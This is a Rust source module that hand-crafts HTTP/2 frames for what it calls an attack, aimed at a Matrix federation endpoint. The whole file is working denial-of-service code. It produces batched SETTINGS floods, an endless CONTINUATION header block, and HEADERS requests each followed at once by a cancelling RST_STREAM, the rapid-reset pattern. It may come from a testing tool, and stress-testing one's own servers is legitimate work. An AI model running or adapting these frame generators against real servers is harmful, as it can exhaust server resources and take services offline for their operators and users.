//! HTTP/2 frames, written by hand.

use crate::known::OWN_NAME;

/// Frames that are made at one time.
pub const BATCH: u64 = 16;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

pub fn hello() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
}

/// The next frames of an attack, and the stream that comes after them.
pub fn next(kind: &str, stream: u32) -> (Vec<u8>, u32) {
    let batch = BATCH as u32;
    match kind {
        "settings" => (frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]).repeat(BATCH as usize), stream),
        // One block that never ends.
        "continuation" if stream > 1 => {
            (frame(CONTINUATION, 0, 1, &[0; 4]).repeat(BATCH as usize), 3)
        }
        "continuation" => (frame(HEADERS, END_STREAM, 1, &block()), 3),
        _ => {
            let pairs = (0..batch).flat_map(|number| {
                let stream = stream + 2 * number;
                let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, &block());
                [request, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
            });
            (pairs.collect(), stream + 2 * batch)
        }
    }
}

/// A request that asks for no signature, without compression (RFC 7541, 6.2.2).
fn block() -> Vec<u8> {
    let fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", OWN_NAME),
        (":path", "/_matrix/federation/v1/version"),
    ];
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            bytes.push(u8::try_from(text.len()).unwrap());
            bytes.extend(text.as_bytes());
        }
    }
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [high, low] = u16::try_from(payload.len()).unwrap().to_be_bytes();
    let mut bytes = vec![0, high, low, kind, flags];
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}
